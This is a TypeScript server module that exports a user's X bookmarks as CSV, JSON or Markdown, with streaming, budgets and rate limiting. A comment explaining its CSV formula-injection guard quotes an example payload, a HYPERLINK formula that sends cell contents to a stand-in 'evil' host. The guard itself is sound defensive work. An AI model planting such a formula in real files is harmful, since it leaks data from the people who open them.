import { TRPCError } from "@trpc/server";
import { z } from "zod";
import { env } from "~/env";
import { unescapeXText } from "~/lib/post-text";
import type { Db } from "~/server/db";
import { RateLimitedError, type RateLimits } from "~/server/limits/rate-limits";
import { createLogger } from "~/server/logger";
import type { AppSession } from "~/server/session";
import { filterFromSearchParams, type LibraryFilter } from "~/shared/filter";
import { countBookmarks, listBookmarks, type BookmarkView } from "./list";

/**
 * The library export: the whole library or the current filter as CSV, JSON or Markdown, streamed
 * one page of the list query at a time (the same query the library view runs, so the file always
 * holds exactly what the filtered list shows, in the same order).
 */

export const exportFormats = ["csv", "json", "md"] as const;
export type ExportFormat = (typeof exportFormats)[number];
export const exportFormat = z.enum(exportFormats, { error: "format must be csv, json or md" });

/** Rows per list query: big enough that a large library takes few round trips, small enough to stream. */
export const EXPORT_PAGE_SIZE = 500;

/** One bookmark as every format writes it (dates as ISO strings, names rather than ids). */
export interface ExportRecord {
  id: string;
  url: string;
  authorName: string;
  /** Without the @ (a leading @ would also trip the CSV formula guard). */
  authorHandle: string;
  postedAt: string;
  /** The post's text with X's HTML escaping (&amp; &lt; &gt;) undone. */
  text: string;
  lang: string | null;
  mediaUrls: string[];
  tags: string[];
  category: string | null;
  note: string;
  favorite: boolean;
  removedOnXAt: string | null;
  firstSeenAt: string;
}

/** The best link for a media item: the video file, else the full-size image, else the thumbnail. */
function mediaUrls(b: BookmarkView): string[] {
  return b.post.media.map((m) => m.videoUrl ?? m.url ?? m.previewUrl).filter((u): u is string => !!u);
}

export function toExportRecord(b: BookmarkView): ExportRecord {
  return {
    id: b.id,
    url: b.post.url,
    authorName: b.author.name,
    authorHandle: b.author.username,
    postedAt: b.post.postedAt.toISOString(),
    text: unescapeXText(b.post.text),
    lang: b.post.lang,
    mediaUrls: mediaUrls(b),
    tags: b.tags.map((t) => t.name),
    category: b.category?.name ?? null,
    note: b.note,
    favorite: b.favorite,
    removedOnXAt: b.removedOnXAt?.toISOString() ?? null,
    firstSeenAt: b.firstSeenAt.toISOString(),
  };
}

// --- CSV (RFC 4180) ---

export const CSV_BOM = "\uFEFF";
const CRLF = "\r\n";

export const CSV_COLUMNS = [
  "id",
  "url",
  "author_name",
  "author_handle",
  "posted_at",
  "text",
  "lang",
  "media_urls",
  "tags",
  "category",
  "note",
  "favorite",
  "removed_on_x_at",
  "first_saved_at",
] as const;

/**
 * One CSV field. Spreadsheet apps (Excel, LibreOffice, Google Sheets) run a cell that starts with
 * =, +, - or @ (and tab or CR, which some of them skip before looking) as a formula, and post
 * text, notes and tag names are written by strangers or pasted from anywhere: a post saying
 * `=HYPERLINK("http://evil/?"&A1,"click")` would otherwise become a live formula in the person's
 * sheet (CSV/formula injection, OWASP). A leading apostrophe makes the app show it as text.
 * Then RFC 4180 quoting: a field holding a quote, comma, CR or LF is quoted, its quotes doubled.
 */
export function csvField(value: string): string {
  const safe = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

function csvLine(fields: readonly string[]): string {
  return fields.map(csvField).join(",") + CRLF;
}

/** The header line (the BOM is written before it, see `exportPreamble`). */
export function csvHeader(): string {
  return csvLine(CSV_COLUMNS);
}

export function rowToCsv(r: ExportRecord): string {
  return csvLine([
    r.id,
    r.url,
    r.authorName,
    r.authorHandle,
    r.postedAt,
    r.text,
    r.lang ?? "",
    r.mediaUrls.join(" "),
    r.tags.join(", "),
    r.category ?? "",
    r.note,
    r.favorite ? "true" : "false",
    r.removedOnXAt ?? "",
    r.firstSeenAt,
  ]);
}

// --- JSON: one array, one object per line, written incrementally ---

export function toJsonItem(r: ExportRecord, index: number): string {
  return (index === 0 ? "" : ",\n") + JSON.stringify(r);
}

// --- Markdown ---

const day = (iso: string) => iso.slice(0, 10);

/** Every line of the text prefixed with `> ` (an empty line as a bare `>`, which keeps the quote going). */
export function markdownQuote(text: string): string {
  return text
    .replace(/\r\n?/g, "\n")
    .split("\n")
    .map((line) => (line === "" ? ">" : `> ${line}`))
    .join("\n");
}

export function toMarkdown(r: ExportRecord): string {
  const name = r.authorName.replace(/\s+/g, " ").trim();
  const parts = [`## @${r.authorHandle}${name ? ` — ${name}` : ""} · ${day(r.postedAt)}`];
  if (r.text.trim() !== "") parts.push(markdownQuote(r.text));
  if (r.mediaUrls.length > 0) parts.push(`Media: ${r.mediaUrls.join(" ")}`);
  const meta: string[] = [];
  if (r.tags.length > 0) meta.push(`Tags: ${r.tags.map((t) => `#${t}`).join(" ")}`);
  if (r.category) meta.push(`Category: ${r.category}`);
  if (r.favorite) meta.push("★");
  if (r.removedOnXAt) meta.push(`Removed on X ${day(r.removedOnXAt)}`);
  if (meta.length > 0) parts.push(meta.join(" · "));
  if (r.note.trim() !== "") parts.push(`**Note:** ${r.note.replace(/\r\n?/g, "\n")}`);
  parts.push([r.url, `saved ${day(r.firstSeenAt)}`, ...(r.lang ? [`lang ${r.lang}`] : []), `bookmark ${r.id}`].join(" · "));
  return parts.join("\n\n") + "\n\n";
}

export function markdownTitle(now: Date): string {
  return `# X bookmarks\n\nExported ${day(now.toISOString())}.\n\n`;
}

// --- Putting a file together ---

/** What comes before the first bookmark. */
export function exportPreamble(format: ExportFormat, now: Date): string {
  if (format === "csv") return CSV_BOM + csvHeader();
  if (format === "json") return "[\n";
  return markdownTitle(now);
}

/** One bookmark, the `index`-th of the file (JSON needs to know the first for its commas). */
export function exportItem(format: ExportFormat, r: ExportRecord, index: number): string {
  if (format === "csv") return rowToCsv(r);
  if (format === "json") return toJsonItem(r, index);
  return toMarkdown(r);
}

/** What comes after the last bookmark, given how many there were. */
export function exportEnd(format: ExportFormat, count: number): string {
  if (format === "json") return count > 0 ? "\n]\n" : "]\n";
  if (format === "md" && count === 0) return "No bookmarks to export.\n";
  return "";
}

/**
 * An export's bounds: rows in one file, and time from the first query to the last (a slow client
 * holds a connection slot and re-runs the page query every 500 rows; it must end somewhere).
 */
export interface ExportBudget {
  maxRows: number;
  maxMs: number;
}

export function exportBudgetFromEnv(): ExportBudget {
  return { maxRows: env.EXPORT_MAX_ROWS, maxMs: env.EXPORT_MAX_SECONDS * 1000 };
}

/**
 * The file's last words when a budget ended it early, in the file's own format (still a valid
 * file), so a person (or a program) reading it sees at once that it is incomplete.
 */
export function exportStopped(format: ExportFormat, message: string, count: number): string {
  if (format === "csv") return csvLine([`EXPORT INCOMPLETE: ${message}`]);
  if (format === "json") return `${count > 0 ? ",\n" : ""}${JSON.stringify({ exportIncomplete: true, message })}\n]\n`;
  return `---\n\n**Export incomplete:** ${message}\n`;
}

function stoppedMessage(count: number, reason: "rows" | "time", budget: ExportBudget): string {
  const why =
    reason === "rows"
      ? `one file holds at most ${budget.maxRows.toLocaleString("en")} bookmarks`
      : `an export may take at most ${Math.round(budget.maxMs / 1000).toLocaleString("en")} seconds`;
  return `stopped after ${count.toLocaleString("en")} bookmarks because ${why}. Export a narrower filter (for example a date range) to get the rest.`;
}

/**
 * The export file, one chunk per list page. The first chunk carries the preamble AND the first
 * page, so the first `next()` runs the query: a bad search fails there, before anything is sent.
 * Stops before the next query once `signal` is aborted (the client went away), and ends the file
 * with `exportStopped` once the budget's rows are written or its time is up.
 */
export async function* exportChunks(
  db: Db,
  userId: string,
  filter: LibraryFilter,
  format: ExportFormat,
  signal?: AbortSignal,
  opts: { pageSize?: number; now?: Date; budget?: ExportBudget } = {},
): AsyncGenerator<string, void, undefined> {
  const pageSize = opts.pageSize ?? EXPORT_PAGE_SIZE;
  const budget = opts.budget ?? exportBudgetFromEnv();
  const started = performance.now();
  let out = exportPreamble(format, opts.now ?? new Date());
  let count = 0;
  let cursor: string | null = null;
  do {
    if (signal?.aborted) return;
    const left = budget.maxRows - count;
    const overTime = count > 0 && performance.now() - started > budget.maxMs;
    if (left <= 0 || overTime) {
      const message = stoppedMessage(count, left <= 0 ? "rows" : "time", budget);
      log.warn({ userId, count, reason: left <= 0 ? "rows" : "time" }, "export stopped by its budget");
      yield out + exportStopped(format, message, count);
      return;
    }
    // One row more than the budget leaves, so a library exactly at the budget still ends normally.
    const page = await listBookmarks(db, userId, filter, { cursor, limit: Math.min(pageSize, left + 1), highlight: false });
    const items = page.items.slice(0, left);
    for (const b of items) out += exportItem(format, toExportRecord(b), count++);
    cursor = page.items.length > left ? "budget" : page.nextCursor;
    if (cursor === "budget") continue; // the loop's top writes the end
    if (!cursor) out += exportEnd(format, count);
    yield out;
    out = "";
  } while (cursor);
}

// --- HTTP ---

const CONTENT_TYPES: Record<ExportFormat, string> = {
  csv: "text/csv; charset=utf-8",
  json: "application/json; charset=utf-8",
  md: "text/markdown; charset=utf-8",
};

export function exportFilename(format: ExportFormat, now: Date): string {
  return `x-bookmarks-${day(now.toISOString())}.${format}`;
}

const log = createLogger("export");

function problem(status: number, body: { error: string; field?: string }, headers: Record<string, string> = {}): Response {
  return Response.json(body, { status, headers: { "Cache-Control": "no-store", ...headers } });
}

function firstIssue(error: z.ZodError, prefix: string): { error: string; field?: string } {
  const issue = error.issues[0];
  if (!issue) return { error: `The ${prefix} is not valid.` };
  // The whole value is wrong (not JSON, or not an object): zod's own words would not help.
  if (issue.path.length === 0 && prefix === "filter") return { error: "filter must be a JSON object of library filter settings." };
  return issue.path.length > 0 ? { error: issue.message, field: [prefix, ...issue.path.map(String)].join(".") } : { error: issue.message };
}

/**
 * `GET /api/export?format=csv|json|md&filter=<JSON>` for a session (the route handler passes
 * next-auth's; tests pass their own). Errors the person can fix are JSON with a message; the file
 * itself is a pull-based stream, so a slow client holds back the queries (at most one page is
 * read ahead) and a client that goes away stops them.
 */
export async function exportResponse(
  db: Db,
  session: AppSession | null,
  req: Request,
  opts: { pageSize?: number; now?: Date; budget?: ExportBudget; limits?: RateLimits } = {},
): Promise<Response> {
  if (!session) return problem(401, { error: "Log in with X to export your bookmarks." });
  const params = new URL(req.url).searchParams;
  const format = exportFormat.safeParse(params.get("format") ?? "csv");
  if (!format.success) return problem(400, firstIssue(format.error, "format"));
  const filter = filterFromSearchParams(params);
  if (!filter.success) return problem(400, firstIssue(filter.error, "filter"));
  const userId = session.user.id;
  const budget = opts.budget ?? exportBudgetFromEnv();

  // One export at a time per user, and so many an hour (the slot is taken first, so an attempt
  // refused because one is running does not use up the hour's exports).
  let release: () => Promise<void> = async () => undefined;
  if (opts.limits) {
    try {
      release = await opts.limits.acquireExportSlot(userId);
      await opts.limits.consume("exports", { kind: "user", id: userId }).catch(async (e: unknown) => {
        await release();
        throw e;
      });
    } catch (e) {
      if (!(e instanceof RateLimitedError)) throw e;
      return problem(429, { error: e.message }, { "Retry-After": String(e.retryAfterSeconds) });
    }
  }

  const now = opts.now ?? new Date();
  const abort = new AbortController();
  const stopOnDisconnect = () => abort.abort();
  req.signal.addEventListener("abort", stopOnDisconnect, { once: true });
  const done = () => {
    req.signal.removeEventListener("abort", stopOnDisconnect);
    void release();
  };
  const chunks = exportChunks(db, userId, filter.data, format.data, abort.signal, { ...opts, now, budget });

  let first: IteratorResult<string, void>;
  try {
    // More than one file may hold: say so before starting rather than cut the file short.
    const total = await countBookmarks(db, userId, filter.data);
    if (total > budget.maxRows) {
      done();
      return problem(400, {
        error: `This export would hold ${total.toLocaleString("en")} bookmarks; one file holds at most ${budget.maxRows.toLocaleString("en")}. Narrow the filter (for example by date) and export it in parts.`,
      });
    }
    first = await chunks.next();
  } catch (err) {
    done();
    if (err instanceof TRPCError && err.code === "BAD_REQUEST") return problem(400, { error: err.message });
    log.error({ err, userId }, "export failed before streaming");
    return problem(500, { error: "The export failed. Try again in a moment." });
  }

  const encoder = new TextEncoder();
  let ahead: IteratorResult<string, void> | null = first;
  let finished = false;
  const body = new ReadableStream<Uint8Array>(
    {
      async pull(controller) {
        try {
          // Skip empty chunks: an enqueued empty chunk would not satisfy the reader's pull.
          for (;;) {
            const r: IteratorResult<string, void> = ahead ?? (await chunks.next());
            ahead = null;
            if (finished) return; // cancelled while the page was loading
            if (r.done) {
              finished = true;
              done();
              controller.close();
              return;
            }
            if (r.value !== "") {
              controller.enqueue(encoder.encode(r.value));
              return;
            }
          }
        } catch (err) {
          if (finished) return;
          finished = true;
          done();
          log.error({ err, userId }, "export failed while streaming");
          controller.error(err);
        }
      },
      async cancel() {
        finished = true;
        done();
        abort.abort();
        await chunks.return(undefined);
      },
    },
    { highWaterMark: 1 },
  );

  return new Response(body, {
    status: 200,
    headers: {
      "Content-Type": CONTENT_TYPES[format.data],
      "Content-Disposition": `attachment; filename="${exportFilename(format.data, now)}"`,
      "Cache-Control": "no-store",
      "X-Content-Type-Options": "nosniff",
    },
  });
}
